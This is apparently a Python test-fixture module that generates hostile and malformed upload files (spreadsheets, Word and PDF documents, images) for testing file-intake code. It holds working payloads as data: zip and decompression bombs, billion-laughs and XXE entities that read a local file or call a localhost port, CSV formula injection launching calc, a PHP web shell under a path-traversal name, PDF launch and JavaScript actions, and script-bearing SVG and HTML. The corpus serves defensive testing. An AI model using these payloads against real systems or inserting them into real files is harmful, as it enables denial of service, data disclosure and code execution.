"""Files that mean harm or came to harm, made on the spot: one corpus for every door that takes a file in."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

SHEET, PAPER, PICTURE = "sheet", "paper", "picture"
CANARY = "qzbimat-tren-dia"
"""Stands in a file of this machine that a hostile file asks for; it must come back nowhere."""
_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_WORD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SCRIPT = b"<script>document.title='qzchay'</script>"


@dataclass(frozen=True)
class BadFile:
    """What is wrong with it, how it is called, its bytes, and what it claims to be."""

    wrong: str
    name: str
    data: bytes
    kind: str
    comes_in: bool = False
    """It is harmless once it has been looked at; what counts is what the look costs."""


def corpus(secret: Path, port: int) -> list[BadFile]:
    """Every bad file; some ask for that file of this machine, some for that port of it."""
    return [*_sheets(secret, port), *_papers(secret, port), *_pictures()]


def zipped(parts: dict[str, bytes | str], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", packing) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return target.getvalue()


def workbook(sheet: str, more: dict[str, bytes | str] | None = None) -> bytes:
    """A workbook with one sheet whose XML is written by hand."""
    return zipped(
        {
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/></Types>',
            "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r1" Type="{_WORD}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<workbook {_MAIN} xmlns:r="{_WORD}"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r1" Type="{_WORD}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": sheet,
            **(more or {}),
        }
    )


def _stored(name: str, data: bytes) -> bytes:
    """A document whose one part is not packed, so that no ratio gives it away."""
    return zipped({"[Content_Types].xml": _TYPES, name: data}, zipfile.ZIP_STORED)


def document(
    body: str = "<w:p><w:r><w:t>Kế hoạch</w:t></w:r></w:p>", more: dict[str, bytes | str] | None = None
) -> bytes:
    """A Word document whose text is written by hand."""
    return zipped(
        {"[Content_Types].xml": _TYPES, "word/document.xml": f"<w:document>{body}</w:document>", **(more or {})}
    )


def _rows(cells: str) -> str:
    return f"<worksheet {_MAIN}><sheetData>{cells}</sheetData></worksheet>"


def _laughs() -> str:
    lines = "".join(f'<!ENTITY {chr(98 + at)} "{("&" + chr(97 + at) + ";") * 10}">' for at in range(9))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">{lines}]>'


def _asks_for(what: str) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY j SYSTEM "{what}">]>'


def _entity_cell(head: str) -> str:
    return head + _rows('<row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row>')


def _lying_zip(name: str, size: int, kept: dict[str, bytes | str]) -> bytes:
    """A package whose directory says that the part is small; it unpacks to ``size``."""
    data = bytearray(zipped({**kept, name: bytes(size)}))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        found = -1
        while (found := data.find(mark, found + 1)) >= 0:
            if struct.unpack_from("<I", data, found + at)[0] == size:
                struct.pack_into("<I", data, found + at, 4000)
    return bytes(data)


def _overlapping(count: int, size: int) -> bytes:
    """Many names in the directory for the one large part."""
    one = zipped({"xl/worksheets/sheet1.xml": bytes(size)})
    end = one.rfind(b"PK\x05\x06")
    start = struct.unpack_from("<I", one, end + 16)[0]
    entry = one[start:end]
    name_at, length = 46, struct.unpack_from("<H", entry, 28)[0]
    entries = b"".join(
        entry[:name_at] + f"{at:0{length}}"[-length:].encode() + entry[name_at + length :] for at in range(count)
    )
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(entries), start, 0)
    return one[:start] + entries + tail


def _encrypted(package: bytes) -> bytes:
    """The bit that says that a part is encrypted, set on every part."""
    data = bytearray(package)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        found = -1
        while (found := data.find(mark, found + 1)) >= 0:
            data[found + at] |= 1
    return bytes(data)


def _compound(*streams: str) -> bytes:
    names = b"".join(name.encode("utf-16-le") + bytes(64) for name in streams)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + names + bytes(4096)


def _sheets(secret: Path, port: int) -> Iterator[BadFile]:
    def one(wrong: str, data: bytes, name: str = "danh sách.xlsx") -> BadFile:
        return BadFile(wrong, name, data, SHEET)

    inner = zipped({"a": bytes(10_000_000)})
    yield one("80 MB of zeros in one part", workbook(_rows(""), {"xl/media/x.bin": bytes(80_000_000)}))
    yield one(
        "a directory that says 4 kB of 400 MB",
        _lying_zip("xl/worksheets/sheet1.xml", 400_000_000, {"xl/workbook.xml": "<workbook/>"}),
    )
    yield one("a thousand names for one large part", _overlapping(1000, 5_000_000))
    yield one("zips within a zip", zipped({f"{at}.zip": inner for at in range(50)}))
    yield one("three thousand parts", workbook(_rows(""), {f"xl/media/{at}": b"" for at in range(3000)}))
    yield one(
        "two cells in opposite corners",
        workbook(_rows('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
    )
    yield one("one cell in the last corner", workbook(_rows('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')))
    yield one("three million cells", workbook(_rows(("<row>" + "<c><v>1</v></c>" * 16_000 + "</row>") * 200)))
    yield one(
        "one cell of 50 MB",
        workbook(_rows(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"ă" * 25_000_000}</t></is></c></row>')),
    )
    yield one("entities within entities", workbook(_entity_cell(_laughs())))
    yield one("an entity that is a file here", workbook(_entity_cell(_asks_for(secret.as_uri()))))
    yield one("an entity that is an address", workbook(_entity_cell(_asks_for(f"http://127.0.0.1:{port}/x"))))
    yield one(
        "a link to a workbook elsewhere",
        workbook(
            _rows(""),
            {
                "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships><Relationship Id="r1" Type="{_WORD}/externalLinkPath" TargetMode="External" Target="http://127.0.0.1:{port}/x"/></Relationships>'
            },
        ),
    )
    yield one("macros", workbook(_rows(""), {"xl/vbaProject.bin": bytes(2000)}))
    yield one("parts named to climb out", workbook(_rows(""), {"../../../../tmp/qzleo": "x", "/etc/qzleo": "x"}))
    yield one("parts of the same name", zipped({"xl/workbook.xml": "<a/>", "xl/Workbook.xml": "<b/>"}))
    yield one("a password, as Office sets it", _compound("EncryptedPackage", "EncryptionInfo"))
    yield one("a password, as a packer sets it", _encrypted(workbook(_rows(""))))
    yield one("cut off", workbook(_rows("<row/>" * 9000))[:-700])
    yield one("nothing", b"")
    yield one("spaces", b" \r\n" * 4000)
    yield one("noise", bytes((at * 97 + at // 7) % 256 for at in range(60_000)))
    yield one("a program", b"\x7fELF\x02\x01\x01" + bytes(5000))
    yield one(
        "a page with a script", b"<html><body>" + _SCRIPT + b"<table><tr><td>STT</td></tr></table>", "danh sách.xls"
    )
    yield one("a PDF", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", "danh sách.xlsx")
    yield one("a picture", _png(10, 10))
    yield one("an old workbook with a hole", _compound("Workbook") + b"\xff" * 9000, "danh sách.xls")
    yield one("16 MB of commas", b"," * 16_000_000, "danh sách.csv")
    yield one("one quoted cell of 14 MB", b'a;b;c;d;"' + b"x" * 14_000_000, "danh sách.csv")
    yield one("a row of a million cells", b";".join([b"1"] * 1_000_000), "danh sách.csv")
    yield one("formulas that call programs", b"=cmd|'/C calc'!A1;@SUM(1);+1;-1\n" * 20, "danh sách.csv")
    yield one("zero bytes within text", b"a;b;c\x00;d\n" * 400, "danh sách.csv")
    yield one(
        "a repeated cell that fills the sheet",
        zipped(
            {
                "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
                "content.xml": '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="A"><table:table-row table:number-rows-repeated="1048576"><table:table-cell office:value-type="string" table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>',
                "META-INF/manifest.xml": "<manifest/>",
            }
        ),
        "danh sách.ods",
    )
    yield one("a Word document", document())


def _papers(secret: Path, port: int) -> Iterator[BadFile]:
    def one(wrong: str, name: str, data: bytes, *, comes_in: bool = False) -> BadFile:
        return BadFile(wrong, name, data, PAPER, comes_in)

    def drawn(kind: str) -> bytes:
        relation = f'<Relationships><Relationship Id="r1" Type="{_WORD}/{kind}" TargetMode="External" Target="http://127.0.0.1:{port}/x"/></Relationships>'
        return document(more={"word/_rels/settings.xml.rels": relation})

    yield one("600 MB of text", "kế hoạch.docx", document("<w:p>" + "a" * 100_000_000))
    yield one(
        "a directory that says 4 kB of 400 MB",
        "kế hoạch.docx",
        _lying_zip("word/document.xml", 400_000_000, {"[Content_Types].xml": _TYPES}),
    )
    yield one("a thousand names for one large part", "kế hoạch.docx", _overlapping(1000, 5_000_000))
    yield one(
        "entities within entities",
        "kế hoạch.docx",
        zipped({"[Content_Types].xml": _TYPES, "word/document.xml": _laughs() + "<w:document>&j;</w:document>"}),
    )
    yield one(
        "an entity that is a file here",
        "kế hoạch.docx",
        zipped(
            {
                "[Content_Types].xml": _TYPES,
                "word/document.xml": _asks_for(secret.as_uri()) + "<w:document>&j;</w:document>",
            }
        ),
    )
    yield one("a template from elsewhere", "kế hoạch.docx", drawn("attachedTemplate"))
    yield one("a picture from elsewhere", "kế hoạch.docx", drawn("image"))
    yield one("macros", "kế hoạch.docx", document(more={"word/vbaProject.bin": bytes(900)}))
    yield one("macros in an old document", "kế hoạch.doc", _compound("WordDocument", "_VBA_PROJECT"))
    yield one(
        "macros in an open document",
        "kế hoạch.odt",
        zipped(
            {
                "mimetype": "application/vnd.oasis.opendocument.text",
                "content.xml": "<a/>",
                "Basic/Standard/Module1.xml": "<x/>",
            }
        ),
    )
    yield one("a password, as Office sets it", "kế hoạch.docx", _compound("EncryptedPackage"))
    yield one(
        "a password in an open document",
        "kế hoạch.odt",
        zipped(
            {
                "mimetype": "application/vnd.oasis.opendocument.text",
                "content.xml": b"\x01",
                "META-INF/manifest.xml": "<manifest:encryption-data/>",
            }
        ),
    )
    yield one("cut off", "kế hoạch.docx", document()[:-60])
    yield one(
        "four million angle brackets", "kế hoạch.docx", _stored("word/document.xml", b"<" * 4_000_000), comes_in=True
    )
    yield one("four million line ends", "kế hoạch.txt", b"\n" * 4_000_000, comes_in=True)
    yield one("a PDF whose page unpacks to 300 MB", "kế hoạch.pdf", _pdf(300_000_000), comes_in=True)
    yield one("parts named to climb out", "kế hoạch.docx", document(more={"../../qzleo": "x"}))
    yield one("parts with a turned name", "kế hoạch.docx", document(more={"word/\u202excod.exe": "x"}))
    yield one("a program named a PDF", "kế hoạch.pdf", b"MZ\x90\x00" + bytes(3000))
    yield one("a page named a document", "kế hoạch.docx", b"<html>" + _SCRIPT)
    yield one("a PDF in front of a package", "kế hoạch.docx", b"%PDF-1.4\n" + document())
    yield one("a PDF that runs a script", "kế hoạch.pdf", b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj")
    yield one("a PDF that starts a program", "kế hoạch.pdf", b"%PDF-1.7\n1 0 obj<</S/Launch/F(calc.exe)>>endobj")
    yield one("an object within rich text", "kế hoạch.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}")
    yield one("a drawing with a script", "sơ đồ.svg", b'<svg xmlns="http://www.w3.org/2000/svg">' + _SCRIPT + b"</svg>")
    yield one("a page", "kế hoạch.html", b"<html>" + _SCRIPT)
    yield one("a program behind two endings", "kế hoạch.pdf.exe", b"MZ" + bytes(400))
    yield one("a path as a name", "../../../kế hoạch.php", b"<?php system($_GET[0]);")
    yield one("no ending", "kếhoạch", b"%PDF-1.7")
    yield one("nothing", "kế hoạch.pdf", b"")


def _pdf(size: int) -> bytes:
    page = zlib.compress(bytes(size), 9)
    parts = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(page), page),
    ]
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % at for at in places)
    return bytes(
        out
        + b"xref\n0 5\n0000000000 65535 f \n%strailer<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (table, len(out))
    )


def _pictures() -> Iterator[BadFile]:
    def one(wrong: str, name: str, data: bytes) -> BadFile:
        return BadFile(wrong, name, data, PICTURE)

    yield one("900 million pixels", "ảnh.png", _png(30_000, 30_000))
    yield one("pixels without end", "ảnh.png", _png(2**31 - 1, 2**31 - 1))
    yield one(
        "100 MB of a note within",
        "ảnh.png",
        _png(10, 10, _chunk(b"zTXt", b"k\x00\x00" + zlib.compress(bytes(100_000_000)))),
    )
    yield one("a film of 5,000 large frames", "ảnh.gif", _gif(4000, 4000, 5000))
    yield one("cut off in its head", "ảnh.png", _png(800, 600)[:20])
    yield one("a drawing with a script", "ảnh.svg", b'<svg xmlns="http://www.w3.org/2000/svg">' + _SCRIPT + b"</svg>")
    yield one(
        "a drawing named a photograph", "ảnh.jpg", b'<svg xmlns="http://www.w3.org/2000/svg">' + _SCRIPT + b"</svg>"
    )
    yield one("a page named a photograph", "ảnh.jpg", b"<html>" + _SCRIPT)
    yield one("a script that begins as a picture", "ảnh.gif", b"GIF89a/*\x00\x00*/=1;document.title='qzchay';")
    yield one("another kind than its ending says", "ảnh.jpg", _png(20, 20))
    yield one("a layered picture", "ảnh.png", b"8BPS\x00\x01" + bytes(400))
    yield one("an address book of PostScript", "ảnh.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run")
    yield one("nothing", "ảnh.png", b"")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, extra: bytes = b"") -> bytes:
    """A black picture; only its first rows are there when it claims to be large."""
    row = b"\x00" + bytes(min(width, 100_000) // 8 + 1)
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + extra
        + _chunk(b"IDAT", zlib.compress(row * min(height, 2000))) + _chunk(b"IEND", b"")
    )  # fmt: skip


def _gif(width: int, height: int, frames: int) -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + bytes(6)
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x4c\x01\x00"
    return head + frame * frames + b"\x3b"
